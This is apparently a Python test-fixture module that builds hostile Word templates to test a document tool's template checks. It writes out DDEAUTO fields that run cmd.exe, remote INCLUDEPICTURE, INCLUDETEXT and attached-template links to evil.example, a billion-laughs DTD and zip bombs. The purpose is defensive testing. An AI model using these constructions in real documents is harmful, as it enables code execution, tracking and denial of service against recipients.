"""Hostile Word templates for `suizhou check --format docx --template FILE`, built here from a
plain letterhead (no binary blob is checked in): one file per attack of issue #26, for the
tests (`test_template_hostile.py`) and the benchmark (`bench/hostile_templates.py`).

`ACCEPTED` are Word documents carrying active or fetching content: the bulletin is made
without it, and each thing dropped is named.  `REFUSED` are files that are not Word
documents at all, or would cost far more to unpack than their size says."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx

LETTERHEAD = "随州市人民政府办公室"
BODY = "模板正文，不应出现在通报中"
MB = 1024 * 1024
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def png(width: int = 2, height: int = 1) -> bytes:
    """A real PNG of `width` × `height` grey pixels."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    raw = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0,
                                                            0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def letterhead() -> bytes:
    """An honest template: a letterhead with a picture, a page number, a body of its own."""
    document = docx.Document()
    header = document.sections[0].header.paragraphs[0]
    header.text = LETTERHEAD
    header.add_run().add_picture(io.BytesIO(png()))
    footer = document.sections[0].footer.paragraphs[0]
    footer._p.append(_xml(
        f'<w:r {W_NS}><w:fldChar w:fldCharType="begin"/></w:r>'))
    footer._p.append(_xml(
        f'<w:r {W_NS}><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'))
    footer._p.append(_xml(f'<w:r {W_NS}><w:fldChar w:fldCharType="end"/></w:r>'))
    document.add_paragraph(BODY)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _xml(text: str):  # type: ignore[no-untyped-def]
    from docx.oxml import parse_xml

    return parse_xml(text)


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def rezip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in files.items():
            package.writestr(name, data)
    return out.getvalue()


def _insert(xml: bytes, before: str, snippet: str) -> bytes:
    text = xml.decode("utf-8")
    assert text.count(before) >= 1, before
    at = text.rindex(before)
    return (text[:at] + snippet + text[at:]).encode("utf-8")


def _add_rel(files: dict[str, bytes], rels_part: str, rel_id: str, kind: str, target: str,
             external: bool = True) -> None:
    mode = ' TargetMode="External"' if external else ""
    files[rels_part] = _insert(files[rels_part], "</Relationships>",
                               f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"'
                               f'{mode}/>')


def _edited(change: Callable[[dict[str, bytes]], None]) -> bytes:
    files = parts(letterhead())
    change(files)
    return rezip(files)


# -- accepted, with what they carry dropped ----------------------------------------------------

def macros(files: dict[str, bytes]) -> None:
    """A macro project, pointed at from the document (the content type stays .docx)."""
    files["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    _add_rel(files, "word/_rels/document.xml.rels", "rId901",
             "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
             "vbaProject.bin", external=False)
    files["[Content_Types].xml"] = _insert(
        files["[Content_Types].xml"], "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')


DDE_RESULT = "DDE结果文字"


def dde_in_body(files: dict[str, bytes]) -> None:
    """`DDEAUTO` as a simple field in the body."""
    files["word/document.xml"] = _insert(
        files["word/document.xml"], "<w:sectPr",
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k '
        'calc&quot; "><w:r><w:t>' + DDE_RESULT + "</w:t></w:r></w:fldSimple></w:p>")


def dde_in_header(files: dict[str, bytes]) -> None:
    """`DDEAUTO` as a complex field in the header, its keyword split over two runs."""
    files["word/header1.xml"] = _insert(
        files["word/header1.xml"], "</w:hdr>",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{DDE_RESULT}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def includepicture_in_footer(files: dict[str, bytes]) -> None:
    """A remote `INCLUDEPICTURE` in the footer, its last picture linked to the same URL."""
    files["word/footer1.xml"] = _insert(
        files["word/footer1.xml"], "</w:ftr>",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
        '"http://evil.example/track.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:1pt;'
        'height:1pt"><v:imagedata r:id="rId902" o:href="http://evil.example/track.png" '
        'xmlns:o="urn:schemas-microsoft-com:office:office"/></v:shape></w:pict></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    files["word/_rels/footer1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>")
    _add_rel(files, "word/_rels/footer1.xml.rels", "rId902", RELS + "image",
             "http://evil.example/track.png")


def includetext_in_header(files: dict[str, bytes]) -> None:
    """`INCLUDETEXT` of a file on a share, as a simple field in the header."""
    files["word/header1.xml"] = _insert(
        files["word/header1.xml"], "</w:hdr>",
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\share\\\\'
        'x.docx&quot; "><w:r><w:t>INCLUDETEXT结果</w:t></w:r></w:fldSimple></w:p>')


def remote_image(files: dict[str, bytes]) -> None:
    """The letterhead's picture fetched from a web server (`r:link`, external)."""
    header = files["word/header1.xml"].decode("utf-8")
    embed = header.split('r:embed="', 1)[1].split('"', 1)[0]
    files["word/header1.xml"] = header.replace(f'r:embed="{embed}"',
                                               'r:link="rId903"').encode("utf-8")
    _add_rel(files, "word/_rels/header1.xml.rels", "rId903", RELS + "image",
             "http://evil.example/logo.png")


def remote_hyperlink(files: dict[str, bytes]) -> None:
    """A hyperlink in the letterhead to a remote template."""
    files["word/header1.xml"] = _insert(
        files["word/header1.xml"], "</w:hdr>",
        '<w:p><w:hyperlink r:id="rId904"><w:r><w:t>模板下载</w:t></w:r></w:hyperlink></w:p>')
    _add_rel(files, "word/_rels/header1.xml.rels", "rId904", RELS + "hyperlink",
             "http://evil.example/normal.dotm")


def attached_template(files: dict[str, bytes]) -> None:
    """A remote attached template (fetched by Word when the document opens)."""
    files["word/settings.xml"] = _insert(
        files["word/settings.xml"], "</w:settings>",
        f'<w:attachedTemplate {R_NS} r:id="rId905"/><w:linkStyles/>')
    files["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>")
    _add_rel(files, "word/_rels/settings.xml.rels", "rId905", RELS + "attachedTemplate",
             "http://evil.example/normal.dotm")


def large_image(files: dict[str, bytes]) -> None:
    """The letterhead's picture replaced by a 5 MB one (over the 4 MB an image may have)."""
    name = next(n for n in files if n.startswith("word/media/"))
    files[name] = png() + bytes(5 * MB)


NESTED = 8000  # about what a header of the 2 MB a part may have holds


def nested_fields(files: dict[str, bytes]) -> None:
    """Thousands of `DDEAUTO` fields nested in one another in the header: each named (up to
    a point), and the work linear in the nesting."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    files["word/header1.xml"] = _insert(
        files["word/header1.xml"], "</w:hdr>", "<w:p>" + "".join(
            begin + f'<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\x{n}.exe </w:instrText>'
            "</w:r>" for n in range(NESTED))
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' * NESTED + "</w:p>")


def everything(files: dict[str, bytes]) -> None:
    for attack in (macros, dde_in_body, dde_in_header, includepicture_in_footer,
                   includetext_in_header, remote_hyperlink, attached_template):
        attack(files)


ACCEPTED: dict[str, Callable[[dict[str, bytes]], None]] = {
    "macros": macros,
    "dde-body": dde_in_body,
    "dde-header": dde_in_header,
    "includepicture-footer": includepicture_in_footer,
    "includetext-header": includetext_in_header,
    "remote-image": remote_image,
    "remote-hyperlink": remote_hyperlink,
    "attached-template": attached_template,
    "large-image": large_image,
    "nested-fields": nested_fields,
    "everything": everything,
}


def accepted(name: str) -> bytes:
    return _edited(ACCEPTED[name])


# -- refused ---------------------------------------------------------------------------------

def not_a_zip() -> bytes:
    return "这不是 Word 文档\n".encode()


def xlsx_renamed() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def docm() -> bytes:
    """A macro-enabled document: the main part's content type says so."""
    def change(files: dict[str, bytes]) -> None:
        macros(files)
        files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml")

    return _edited(change)


def entity_in_styles() -> bytes:
    """A DTD with nested entities (a small billion laughs) in styles.xml."""
    def change(files: dict[str, bytes]) -> None:
        styles = files["word/styles.xml"].decode("utf-8")
        head, rest = styles.split("?>", 1)
        dtd = ('<!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa">'
               + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">'
                         for n in range(8)) + "]>")
        files["word/styles.xml"] = (head + "?>" + dtd + rest.replace(
            "</w:styles>", "<!-- &i; --></w:styles>")).encode("utf-8")

    return _edited(change)


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """The raw deflate stream of `size` zero bytes (a multiple of 1 MB), made in
    milliseconds: each megabyte compressed alone (a full flush) is the same block."""
    assert size % MB == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = block * (size // MB) + compressor.flush()
    zeros, crc = bytes(MB), 0
    for _ in range(size // MB):  # 1 GB of zeros in about half a second
        crc = zlib.crc32(zeros, crc)
    return stream, crc


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip of (name, stored bytes, crc, unpacked size, method) as given, sizes unchecked."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size, method in entries:
        offset = out.tell()
        encoded = name.encode("utf-8")
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x21, crc,
                              len(data), size, len(encoded), 0) + encoded + data)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, 0,
                                   0x21, crc, len(data), size, len(encoded), 0, 0, 0, 0, 0,
                                   offset) + encoded)
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central),
                          out.tell() - start, start, 0))
    return out.getvalue()


def _with_raw(extra: list[tuple[str, bytes, int, int, int]]) -> bytes:
    files = parts(letterhead())
    entries = []
    for name, data in files.items():
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        entries.append((name, compressor.compress(data) + compressor.flush(),
                        zlib.crc32(data), len(data), 8))
    return _raw_zip(entries + extra)


def huge_image() -> bytes:
    """A 1 GB letterhead picture in a file of about 1 MB."""
    stream, crc = _deflated_zeros(1024 * MB)
    return _with_raw([("word/media/image9.png", stream, crc, 1024 * MB, 8)])


def many_big_parts() -> bytes:
    """Four 15 MB parts: each under the limit of a part, together over the template's."""
    stream, crc = _deflated_zeros(15 * MB)
    return _with_raw([(f"word/media/big{n}.png", stream, crc, 15 * MB, 8) for n in range(4)])


def lying_sizes() -> bytes:
    """A styles part that says it unpacks to 1 KB and unpacks to 64 MB."""
    stream, crc = _deflated_zeros(64 * MB)
    files = parts(letterhead())
    entries = []
    for name, data in files.items():
        if name == "word/styles.xml":
            entries.append((name, stream, crc, 1024, 8))
            continue
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        entries.append((name, compressor.compress(data) + compressor.flush(),
                        zlib.crc32(data), len(data), 8))
    return _raw_zip(entries)


def word97() -> bytes:
    """What a .doc (or a password-protected .docx) starts with: an OLE compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


STYLE = ('<w:style w:type="paragraph" w:customStyle="1" w:styleId="S{n}"><w:name w:val="S{n}"/>'
         '<w:basedOn w:val="Normal"/><w:rPr><w:sz w:val="24"/></w:rPr></w:style>')


def with_styles(files: dict[str, bytes], count: int) -> None:
    """`count` more paragraph styles in styles.xml (python-docx walks them all per lookup)."""
    padding = "".join(STYLE.format(n=n) for n in range(count))
    files["word/styles.xml"] = files["word/styles.xml"].replace(
        b"</w:styles>", padding.encode() + b"</w:styles>")


def padded(files: dict[str, bytes], part: str, size: int) -> None:
    """`part` (a header, a footer, the document) grown with paragraphs of text to `size`."""
    paragraph = "<w:p><w:r><w:t>填充的一段文字，用来撑大这个部件。</w:t></w:r></w:p>"
    end = "</w:body>" if part == "word/document.xml" else "</w:"
    text = files[part].decode("utf-8")
    room = size - len(text.encode("utf-8"))
    grown = paragraph * max(0, room // len(paragraph.encode("utf-8")))
    at = text.rindex(end)
    files[part] = (text[:at] + grown + text[at:]).encode("utf-8")


def too_many_styles() -> bytes:
    return _edited(lambda files: with_styles(files, 2500))


def long_letterhead() -> bytes:
    """Body, header and footer each under the limit of a part, together over the XML a
    template may have."""
    def change(files: dict[str, bytes]) -> None:
        for part in ("word/document.xml", "word/header1.xml", "word/footer1.xml"):
            padded(files, part, 2 * MB - 4096)

    return _edited(change)


def huge_header() -> bytes:
    """A letterhead of 5 MB of text: more than a header needs, and ten times that in memory."""
    return _edited(lambda files: padded(files, "word/header1.xml", 5 * MB))


def many_parts() -> bytes:
    """Five thousand empty entries: a small file whose directory alone is work."""
    files = parts(letterhead())
    files.update({f"word/media/empty{n}.png": b"" for n in range(5000)})
    return rezip(files)


def broken_styles() -> bytes:
    return _edited(lambda files: files.__setitem__("word/styles.xml", b"<w:styles><unclosed>"))


REFUSED: dict[str, Callable[[], bytes]] = {
    "not-a-zip": not_a_zip,
    "xlsx-renamed": xlsx_renamed,
    "docm": docm,
    "entity-in-styles": entity_in_styles,
    "huge-image": huge_image,
    "many-big-parts": many_big_parts,
    "lying-sizes": lying_sizes,
    "word97": word97,
    "broken-styles": broken_styles,
    "too-many-styles": too_many_styles,
    "long-letterhead": long_letterhead,
    "huge-header": huge_header,
    "many-parts": many_parts,
}
